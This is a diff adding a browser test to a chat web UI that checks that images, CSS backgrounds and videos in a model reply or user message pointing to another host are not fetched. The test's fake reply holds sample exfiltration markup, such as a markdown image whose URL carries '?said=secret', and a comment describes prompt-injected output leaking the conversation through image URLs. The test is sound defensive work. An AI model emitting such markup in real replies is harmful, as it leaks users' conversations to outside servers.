@@ -753,6 +753,51 @@ def test_browser_asks_for_the_api_key_first(engine, browser, monkeypatch):
 
 @pytest.mark.browser
 @needs_chromium
+def test_browser_loads_no_image_a_reply_or_a_message_points_elsewhere(browser):
+    import http.server
+
+    fetched: list[str] = []
+
+    class Elsewhere(http.server.BaseHTTPRequestHandler):  # another site, recording what is asked of it
+        def do_GET(self) -> None:
+            fetched.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    elsewhere = http.server.HTTPServer(("127.0.0.1", 0), Elsewhere)
+    threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
+    there = f"http://127.0.0.1:{elsewhere.server_port}"
+    # what text that steers the model has it write: the conversation carried out in an image's URL
+    reply = (
+        f"Done ![x]({there}/markdown?said=secret) <img src='{there}/img'> "
+        f"<div style='background: url({there}/css)'>a</div> <video src='{there}/video' autoplay></video>"
+    )
+
+    def chat(messages, params, cancel):
+        yield TextChunk(reply, (1,))
+        yield Finished("stop", 3, 1, 0.1, 0.0, 0.1)
+
+    app = webui.mount(fastapi.FastAPI(), chat=chat, encode=no_encode, context_window=2048, model_name="m")
+    try:
+        with serve(app) as url:
+            page = browser.new_page()
+            page.goto(url)
+            message = page.locator("#message textarea")
+            message.fill(f"Summarize ![y]({there}/pasted)")
+            message.press("Enter")
+            wait_for_status(page, stats_line(Finished("stop", 3, 1, 0.1, 0.0, 0.1)))
+            assert page.locator("#chatbot .bot-row img").count() == 2  # shown as Gradio shows them, but empty
+            page.close()
+    finally:
+        elsewhere.shutdown()
+    assert fetched == []
+
+
+@pytest.mark.browser
+@needs_chromium
 def test_browser_page_is_in_chinese_where_the_browser_prefers_it(engine, browser):
     chat = RecordingChat(engine)
     app = page_app(engine, chat)
